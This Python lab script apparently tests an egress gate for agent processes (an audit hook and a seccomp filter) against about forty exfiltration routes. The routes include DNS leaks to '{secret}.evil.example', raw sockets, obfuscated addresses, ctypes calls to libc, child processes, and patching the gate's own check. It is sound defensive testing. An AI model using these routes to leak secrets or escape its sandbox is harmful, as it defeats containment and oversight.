"""Try to send a byte, or a query to a name server, out of a process past its gate.

`python -m lab.real.ways_out MODE DIRECTORY` tries each in the network namespace it is started in,
and prints one line of JSON per way. MODE is `hook` (the audit hook alone), `kernel` (the seccomp
filter alone) or `both`. It prepares that network first, unless the word `prepared` follows. The
allowed destination is http://allowed.example:8443; another process is the outside, and reports the
bytes and queries that reach it.
"""

import _socket
import asyncio
import contextlib
import ctypes
import json
import multiprocessing
import os
import selectors
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from byoc_agents.egress.audit_hook import enforce_process
from byoc_agents.egress.destinations import https_destination
from byoc_agents.egress.gate import Gate
from byoc_agents.egress.seccomp import prepare_filter
from lab.real.netlab.names import answer

ALLOWED, STRANGER = "203.0.113.10", "203.0.113.66"  # RFC 5737
PORT, LOCAL_PORT, DIALED_PORT = 8443, 8123, 7777
EVIL = (STRANGER, PORT)
RELAY = "\0byoc-lab-relay"  # an abstract socket: the whole network namespace shares it
NAMES = {"allowed.example": ALLOWED}
NETWORK_FILES = {  # of /etc: the outside is the name server
    "resolv.conf": "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
    "nsswitch.conf": "hosts: files dns\n",
}
QUIET_SECONDS = 0.1  # nothing reached the outside for so long: everything sent has arrived

Way = Callable[[str], Any]  # takes the secret that must not get out


# The outside: a process of its own.


def stand_outside() -> None:
    """Serve DNS, TCP, UDP and a relay. For each line of stdin print all received data as JSON.

    If the line is a port, connect to it before.
    """
    selector = selectors.DefaultSelector()
    for place in ((ALLOWED, PORT), EVIL, (STRANGER, LOCAL_PORT), ("127.0.0.1", LOCAL_PORT)):
        selector.register(socket.create_server(place), selectors.EVENT_READ, "listener")
    for place in (("127.0.0.1", 53), (ALLOWED, PORT), EVIL):
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind(place)
        selector.register(datagrams, selectors.EVENT_READ, "dns" if place[1] == 53 else "udp")
    relay = socket.socket(socket.AF_UNIX)
    relay.bind(RELAY)
    relay.listen()
    selector.register(relay, selectors.EVENT_READ, "listener")
    print("ready", flush=True)
    for line in sys.stdin:
        with contextlib.suppress(OSError):
            if port := line.strip():
                dialed = socket.create_connection(("127.0.0.1", int(port)), timeout=1)
                selector.register(dialed, selectors.EVENT_READ, "stream")
        print(json.dumps(_collect(selector)), flush=True)


def _collect(selector: selectors.BaseSelector) -> list[str]:
    found = []
    while ready := selector.select(QUIET_SECONDS):
        for key, _ in ready:
            sock: socket.socket = key.fileobj  # type: ignore[assignment]
            match key.data:
                case "listener":
                    selector.register(sock.accept()[0], selectors.EVENT_READ, "stream")
                case "stream":
                    if not (data := _received(sock)):
                        selector.unregister(sock)
                    found.append(f"out {data.decode('latin-1')}")
                case "udp":
                    found.append(f"out {sock.recv(2000).decode('latin-1')}")
                case _:
                    query, client = sock.recvfrom(2000)
                    name, response = answer(query, NAMES)
                    sock.sendto(response, client)
                    found.append(f"dns {name}")
    return found


def _received(sock: socket.socket) -> bytes:
    try:
        return sock.recv(2000)
    except OSError:
        return b""


# The ways.


def tcp(sock: socket.socket, address: Any, secret: str) -> None:
    """Connect and send."""
    sock.settimeout(2)
    sock.connect(address)
    sock.sendall(secret.encode())
    sock.close()


def program(secret: str) -> list[str]:
    """Return a command that connects to the stranger."""
    code = f"import socket; socket.create_connection({EVIL}).send({secret.encode()!r})"
    return [sys.executable, "-c", code]


class SaysUnix(socket.socket):
    """A socket that claims the family AF_UNIX."""

    family = property(lambda _: socket.AF_UNIX)


class SaysLoopback(str):
    """A host that prints as loopback."""

    __slots__ = ()

    def __str__(self) -> str:
        return "127.0.0.1"


class SaysAllowed(str):
    """A host that prints as the destination's address."""

    __slots__ = ()

    def __str__(self) -> str:
        return ALLOWED


class Port(int):
    """A port that converts to the allowed one."""

    def __int__(self) -> int:
        return PORT


def udp() -> socket.socket:
    """Return a datagram socket."""
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def connected_ex(secret: str) -> None:
    """Connect without an exception."""
    sock = socket.socket()
    sock.connect_ex(EVIL)
    sock.sendall(secret.encode())


def bare_socket(secret: str) -> None:
    """Use the class below `socket.socket`."""
    sock = _socket.socket()
    sock.connect(EVIL)
    sock.send(secret.encode())


async def datagram_endpoint(secret: str) -> None:
    """Use asyncio's connected datagrams."""
    loop = asyncio.get_running_loop()
    made = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=EVIL)
    made[0].sendto(secret.encode())
    await asyncio.sleep(0)


async def unconnected_endpoint(secret: str) -> None:
    """Use asyncio's other datagrams."""
    loop = asyncio.get_running_loop()
    made = await loop.create_datagram_endpoint(
        asyncio.DatagramProtocol,
        local_addr=("0.0.0.0", 0),
    )
    made[0].sendto(secret.encode(), EVIL)
    await asyncio.sleep(0)


async def reverse(_secret: str) -> None:
    """Look up the name of an address."""
    await asyncio.get_running_loop().getnameinfo((STRANGER, 443), 0)


def hidden_in_address(_secret: str) -> None:
    """Look up the name of an address that is made of data."""
    socket.getnameinfo(("2ad0:5345:4352:4554:2d44:4154:4121:0001", 443), 0)


def forked(secret: str) -> None:
    """Connect from a child of the same interpreter."""
    pid = os.fork()
    if pid == 0:
        try:
            tcp(socket.socket(), EVIL, secret)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def spawned(secret: str) -> None:
    """Start a program by posix_spawn."""
    os.waitpid(os.posix_spawn(sys.executable, program(secret), dict(os.environ)), 0)


def sent_by_child(secret: str) -> None:
    """Connect; for multiprocessing."""
    tcp(socket.socket(), EVIL, secret)


def multiprocessed(secret: str) -> None:
    """Start a process by multiprocessing."""
    child = multiprocessing.get_context("spawn").Process(target=sent_by_child, args=(secret,))
    child.start()
    child.join(20)


LIBC = ctypes.CDLL(None, use_errno=True)  # loaded before the hook, as a library might
# Another instance, whose functions have also been resolved before the hook. Calling them raises no
# event before CPython 3.14.
RESOLVED = ctypes.CDLL(None, use_errno=True)
RESOLVED_FUNCTIONS = (RESOLVED.socket, RESOLVED.connect, RESOLVED.send, RESOLVED.gethostbyname)
# The module of a native client. It has no C code of its own: it uses the functions above.
STAND_IN = """
from functools import partial
from __main__ import RESOLVED, native_connect, native_look_up
connect, look_up = partial(native_connect, RESOLVED), partial(native_look_up, RESOLVED)
"""


def native_connect(libc: ctypes.CDLL, secret: str) -> None:
    """Connect by the C library."""
    descriptor = libc.socket(2, 1, 0)
    place = struct.pack("=HH4s8x", 2, socket.htons(PORT), socket.inet_aton(STRANGER))
    libc.connect(descriptor, place, 16)
    libc.send(descriptor, secret.encode(), len(secret), 0)


def native_look_up(libc: ctypes.CDLL, secret: str) -> None:
    """Ask for a name by the C library."""
    libc.gethostbyname(f"{secret}.evil.example".encode())


def accepted(secret: str) -> None:
    """Send on an accepted connection."""
    with socket.create_server(("0.0.0.0", DIALED_PORT)) as server:
        send_on_accepted(server, secret)


def accepted_unbound(secret: str) -> None:
    """Listen without `bind`: `listen` selects a port, and raises no audit event."""
    with socket.socket() as server:
        server.listen()
        send_on_accepted(server, secret)


def send_on_accepted(server: socket.socket, secret: str) -> None:
    """Let the outside connect, then send."""
    outside.ask(server.getsockname()[1])
    server.settimeout(5)
    server.accept()[0].sendall(secret.encode())
    outside.read_response()


def relayed(secret: str) -> None:
    """Send it to another process by an abstract socket."""
    tcp(socket.socket(socket.AF_UNIX), RELAY, secret)


def remembered(secret: str) -> None:
    """Add the stranger to the gate's resolved addresses."""
    gate._addresses[EVIL] = float("inf")  # noqa: SLF001 - as hostile code would
    try:
        tcp(socket.socket(), EVIL, secret)
    finally:
        del gate._addresses[EVIL]  # noqa: SLF001


def replaced(secret: str) -> None:
    """Replace the gate's check."""
    check, Gate.check_address = Gate.check_address, lambda *_: None  # type: ignore[method-assign]
    try:
        tcp(socket.socket(), EVIL, secret)
    finally:
        Gate.check_address = check  # type: ignore[method-assign]


WAYS: dict[str, Way] = {
    "connect": lambda s: tcp(socket.socket(), EVIL, s),
    "connect_ex": connected_ex,
    "_socket.socket": bare_socket,
    "UDP sendto": lambda s: udp().sendto(s.encode(), EVIL),
    "UDP sendmsg": lambda s: udp().sendmsg([s.encode()], [], 0, EVIL),
    "TCP Fast Open": lambda s: socket.socket().sendto(s.encode(), 0x20000000, EVIL),
    "IPv4 in IPv6": lambda s: tcp(socket.socket(socket.AF_INET6), (f"::ffff:{STRANGER}", PORT), s),
    "asyncio connected datagram": lambda s: asyncio.run(datagram_endpoint(s)),
    "asyncio datagram": lambda s: asyncio.run(unconnected_endpoint(s)),
    "decimal address": lambda s: tcp(socket.socket(), ("3405803842", PORT), s),
    "hexadecimal address": lambda s: tcp(socket.socket(), ("0xcb.0.113.66", PORT), s),
    "raw socket": lambda s: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(
        s.encode(), EVIL
    ),
    "packet socket": lambda s: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).sendto(
        s.encode(), ("lo", 0x0800)
    ),
    "vsock": lambda _: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, PORT)),
    "subclass with another family": lambda s: tcp(SaysUnix(socket.AF_INET), EVIL, s),
    "host that prints as another": lambda s: tcp(
        socket.socket(), (SaysLoopback(STRANGER), LOCAL_PORT), s
    ),
    "port that converts to another": lambda s: tcp(
        socket.socket(), (SaysAllowed(STRANGER), Port(LOCAL_PORT)), s
    ),
    "connect to IPv4 with a scope": lambda s: tcp(
        socket.socket(), (f"{STRANGER}%{s}.evil.example", PORT), s
    ),
    "look-up of IPv4 with a scope": lambda s: socket.getaddrinfo(f"127.0.0.1%{s}.evil.example", 1),
    "getaddrinfo": lambda s: socket.getaddrinfo(f"{s}.evil.example", 443),
    "gethostbyname_ex": lambda s: socket.gethostbyname_ex(f"{s}.evil.example"),
    "gethostbyaddr": lambda s: socket.gethostbyaddr(f"{s}.evil.example"),
    "getfqdn": lambda s: socket.getfqdn(f"{s}.evil.example"),
    "bind to a name": lambda s: socket.socket().bind((f"{s}.evil.example", 0)),
    "getnameinfo": lambda _: socket.getnameinfo((STRANGER, 443), 0),
    "getnameinfo of data": hidden_in_address,
    "connect to a name": lambda s: socket.socket().connect((f"{s}.evil.example", 443)),
    "asyncio getnameinfo": lambda s: asyncio.run(reverse(s)),
    "subprocess": lambda s: subprocess.run(program(s), check=False, timeout=20),
    "os.system": lambda s: os.system(f"{sys.executable} -c '{program(s)[2]}'"),
    "posix_spawn": spawned,
    "fork": forked,
    "multiprocessing": multiprocessed,
    "ctypes connect": lambda s: native_connect(LIBC, s),
    "ctypes look-up": lambda s: native_look_up(LIBC, s),
    "ctypes function resolved before the hook": lambda s: native_connect(RESOLVED, s),
    "native client's connect": lambda s: __import__("uvloop").connect(s),
    "native client's look-up": lambda s: __import__("uvloop").look_up(s),
    "accepted connection": accepted,
    "relay by an AF_UNIX socket": relayed,
    "UDP to an allowed TCP port": lambda s: udp().sendto(s.encode(), (ALLOWED, PORT)),
    "the gate's memory changed": remembered,
    "the gate's check replaced": replaced,
    "listen without bind": accepted_unbound,
}


class Outside:
    """The outside process."""

    def __init__(self) -> None:
        command = [sys.executable, "-m", "lab.real.ways_out", "outside"]
        self._process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        assert self._process.stdin
        assert self._process.stdout
        self._ask, self._reported = self._process.stdin, self._process.stdout
        assert self._reported.readline() == "ready\n"
        self._early: list[str] = []  # read, and not yet returned

    def ask(self, port: int | str = "") -> None:
        """Request the received data, after it has connected to a port."""
        self._ask.write(f"{port}\n")
        self._ask.flush()

    def read_response(self) -> None:
        """Read the response to `ask`, for the next `received`."""
        self._early += json.loads(self._reported.readline())

    def received(self) -> list[str]:
        """Return the data received since the last call."""
        self.ask()
        self.read_response()
        came, self._early = self._early, []
        return came


def prepare_network(directory: Path) -> None:
    """Configure this namespace: two addresses, and the outside as its name server."""
    for command in (
        ["ip", "link", "set", "lo", "up"],
        ["ip", "address", "add", f"{ALLOWED}/32", "dev", "lo"],
        ["ip", "address", "add", f"{STRANGER}/32", "dev", "lo"],
    ):
        subprocess.run(command, check=True)
    for name, text in NETWORK_FILES.items():
        file = directory / name
        file.write_text(text)
        subprocess.run(["mount", "--bind", file, f"/etc/{name}"], check=True)


def attempt(name: str, way: Way, secret: str) -> dict[str, Any]:
    """Try one way; return the data that reached the outside."""
    before, error = len(refused), ""
    try:
        way(secret)
    except (Exception, SystemExit) as failed:  # noqa: BLE001  whatever a way ends in
        error = f"{type(failed).__name__}: {failed}"
    came = outside.received()
    ended = "out" if any(one.startswith("out ") and secret in one for one in came) else "closed"
    ended = "dns" if ended == "closed" and any(one.startswith("dns ") for one in came) else ended
    return {"way": name, "end": ended, "counted": len(refused) - before, "error": error[:160]}


refused: list[str] = []
gate = Gate(
    [https_destination("http://allowed.example:8443"), https_destination("http://127.0.0.1:8123")],
    allow_insecure=True,
    on_refused=lambda why, _: refused.append(str(why)),
)
outside: Outside


async def reach_the_allowed() -> None:
    """Make the gate know the address of its destination, as a daemon does."""
    async with gate.session() as session:
        with contextlib.suppress(Exception):
            await session.get("http://allowed.example:8443/", timeout=1)  # type: ignore[arg-type]


def try_all(mode: str, directory: str) -> None:
    """Try all ways in a network that is prepared."""
    global outside  # noqa: PLW0603  one for all ways
    outside = Outside()
    sys.path.insert(0, directory)
    Path(directory, "uvloop.py").write_text(STAND_IN)
    confine = prepare_filter()
    if mode != "kernel":
        enforce_process(gate)
    asyncio.run(reach_the_allowed())
    if mode != "hook":
        confine()
    assert "dns allowed.example" in outside.received()
    for number, (name, way) in enumerate(WAYS.items()):
        print(json.dumps(attempt(name, way, f"secret-{number:02}")), flush=True)
    os._exit(0)


if __name__ == "__main__":
    if sys.argv[1] == "outside":
        stand_outside()
    else:
        if sys.argv[3:] != ["prepared"]:
            prepare_network(Path(sys.argv[2]))
        try_all(*sys.argv[1:3])
